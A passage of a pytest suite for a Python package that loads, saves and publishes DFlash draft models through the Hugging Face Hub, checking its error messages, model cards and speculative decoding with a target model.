    HfApi().upload_file(path_or_fileobj=b"anything", path_in_repo="mask_embedding.pt", repo_id=repo_id)
    for name in (tmp_path, repo_id):
        with pytest.raises(ValueError, match=r"in a pickle \(mask_embedding\.pt\).*dflash-hub convert"):
            DFlashDraftModel.from_pretrained(name)


def test_a_missing_repository_says_so(hub, repo_id):
    with pytest.raises(OSError, match=r"is not a local folder and is not a valid model identifier"):
        DFlashDraftSpec(repo_id).load()


def test_a_missing_revision_says_so(hub, repo_id, draft):
    draft.push_to_hub(repo_id)
    with pytest.raises(OSError, match="not a valid git identifier"):
        DFlashDraftSpec(repo_id, revision="nope").load()


def test_a_private_repository_loads_with_a_token_and_asks_for_one_without(hub, repo_id, draft, fresh_process):
    draft.push_to_hub(repo_id, private=True)
    code = f"from dflash_hub import DFlashDraftSpec; DFlashDraftSpec({repo_id!r}).load()"
    assert "hf auth login" in fresh_process(code, fails=True, block=False, HF_TOKEN="")
    assert digests(DFlashDraftSpec(repo_id).load()) == digests(draft)


def test_a_gated_repository_says_how_to_get_access(hub, repo_id, draft):
    draft.push_to_hub(repo_id)
    hub.state.repos["models", repo_id].gated = True
    with pytest.raises(OSError, match="gated repo"):
        DFlashDraftSpec(repo_id).load()


def test_offline_without_a_cached_copy_says_so(hub, repo_id, draft, fresh_process):
    draft.push_to_hub(repo_id)
    code = f"from dflash_hub import DFlashDraftSpec; DFlashDraftSpec({repo_id!r}).load()"
    message = fresh_process(code, fails=True, block=False, HF_HUB_OFFLINE="1")
    assert "couldn't find" in message or "offline" in message.lower()


def test_a_push_without_the_right_to_is_refused_and_says_so(hub, repo_id, draft):
    with pytest.raises(
        RuntimeError, match=r"(?s)Invalid user token.*Log in with a token that may write there: hf auth login"
    ):
        draft.push_to_hub(repo_id, token="hf_wrong")


def test_the_travelling_files_say_in_one_error_when_transformers_is_too_old(fresh_process, draft, tmp_path):
    draft.save_pretrained(tmp_path)
    code = f"""
    import transformers
    transformers.__version__ = "4.57.1"
    from transformers import AutoModel
    AutoModel.from_pretrained({str(tmp_path)!r}, trust_remote_code=True)
    """
    message = fresh_process(code, fails=True)
    assert message.strip().splitlines()[-1] == (
        "ImportError: This DFlash draft needs transformers >= 5.15.1, but 4.57.1 is installed. Upgrade it: "
        "pip install --upgrade transformers"
    )


def test_a_model_type_of_transformers_own_does_not_break_the_import(fresh_process):
    code = """
    from transformers.models.auto.configuration_auto import CONFIG_MAPPING, CONFIG_MAPPING_NAMES
    CONFIG_MAPPING._mapping["dflash"] = "Qwen3Config"
    import dflash_hub
    print(dflash_hub.DFlashDraftModel.from_pretrained(sys.argv[0] or {tiny!r}).config.model_type)
    """
    code = code.replace("sys.argv[0] or {tiny!r}", repr(str(TINY / "draft")))
    assert fresh_process(code, block=False).strip().endswith("dflash")


def test_what_is_saved_is_what_other_readers_expect(tmp_path, draft):
    draft.save_pretrained(tmp_path)
    weights = load_file(tmp_path / "model.safetensors")
    assert len(weights) == 11 * 2 + 3
    assert not any(name.startswith("model.") for name in weights)


def test_the_card_of_an_unpushed_draft_asks_to_be_named_and_the_push_names_it(hub, repo_id, draft, tmp_path):
    draft.save_pretrained(tmp_path)
    assert "your-name/your-draft" in (tmp_path / "README.md").read_text()
    draft.save_pretrained(tmp_path / "b", push_to_hub=True, repo_id=repo_id)
    assert_whole(hub, repo_id)
    assert repo_id in ModelCard.load(repo_id).text


def test_what_the_push_is_told_fills_the_gaps_of_a_card_that_was_saved_before(
    hub, repo_id, draft, tmp_path, monkeypatch
):
    monkeypatch.setattr(pushing, "check_staged", lambda draft, folder: None)
    draft.save_pretrained(tmp_path)
    saved = (tmp_path / "README.md").read_text()
    assert "its target (`base_model`), its licence" in saved
    assert "THE-TARGET-OF-THIS-DRAFT" in saved
    with (tmp_path / "README.md").open("a") as file:
        file.write("\n## Mine\n")
    told = {
        "base_model": "org/target",
        "license": "mit",
        "language": ["en"],
        "datasets": ["org/rows"],
        "thinking": "off",
    }
    publish(tmp_path, repo_id, PublishOptions(card=told))
    text = ModelCard.load(repo_id).text
    assert "THE-TARGET" not in text
    assert "Not stated yet" not in text
    assert "| non-thinking; en |" in text
    assert text.rstrip().endswith("## Mine")


DECODE = """
    import json, sys
    sys.path.append({tests!r})
    import torch
    from transformers import AutoModel, AutoModelForCausalLM
    target = AutoModelForCausalLM.from_pretrained({target!r})
    loads, honest = [], AutoModel.from_pretrained
    AutoModel.from_pretrained = lambda *args, **kwargs: (loads.append(args), honest(*args, **kwargs))[1]
    ids = torch.arange(40, 60)[None]
    asked = dict(attention_mask=torch.ones_like(ids), max_new_tokens=24, eos_token_id=None)
    with_draft = dict(custom_generate={repo!r}, trust_remote_code=True)
    own = target.generate(ids, **asked)
    same = [torch.equal(target.generate(ids, **asked, **with_draft), own)]

    class Statistics:
        def add_cycle(self, counts, size):
            self.kept = getattr(self, "kept", []) + [kept for _, kept in counts]
    statistics = Statistics()
    for phase in ("prefill", "draft", "verify", "rest", "rollback"):
        setattr(statistics, phase + "_seconds", 0.0)
    same.append(torch.equal(target.generate(ids, **asked, **with_draft, statistics=statistics), own))
    torch.manual_seed(0)
    sampled = target.generate(ids, **asked, **with_draft, do_sample=True, temperature=2.0)
    assert "dflash_hub" not in [name for name, module in sys.modules.items() if module is not None]
    print(json.dumps([same, max(statistics.kept), list(sampled.shape), len(loads)]))
"""


@pytest.mark.parametrize("where", ["Hub", "folder for engines"])
def test_a_target_decodes_with_a_draft_by_name_and_nothing_but_transformers(
    hub, repo_id, where, tmp_path, fresh_process
):
    draft = DFlashDraftModel.from_pretrained(TINY / "draft")
    repo = repo_id if where == "Hub" else str(tmp_path)
    if where == "Hub":
        draft.push_to_hub(repo_id)
    else:
        draft.save_pretrained(tmp_path, layout="engines")
    code = DECODE.format(tests=str(ROOT / "tests"), target=str(TINY / "target"), repo=repo)
    same, most, shape, loads = json.loads(fresh_process(code).splitlines()[-1])
    assert same == [True, True]
    assert most > 1, "no drafted token was ever accepted"
    assert shape == [1, 44]
    assert loads == 1


def test_by_name_with_the_package_installed_the_draft_is_of_our_class(hub, repo_id, tiny_target):
    """Without trust nothing runs, and a draft of another target is refused."""
    DFlashDraftModel.from_pretrained(TINY / "draft").push_to_hub(repo_id)
    ids = torch.arange(40, 60)[None]
    asked = {"attention_mask": torch.ones_like(ids), "max_new_tokens": 16, "eos_token_id": None}
    with pytest.raises(ValueError, match="custom generation code"):
        tiny_target.generate(ids, **asked, custom_generate=repo_id, trust_remote_code=False)
    text = tiny_target.generate(ids, **asked, custom_generate=repo_id, trust_remote_code=True)
    assert torch.equal(text, tiny_target.generate(ids, **asked))
    with pytest.raises(ValueError, match="hidden_size is 128 in the draft, but the target has 32"):
        tiny.target("qwen3").generate(tiny.prompt(6), custom_generate=repo_id, trust_remote_code=True, max_new_tokens=4)
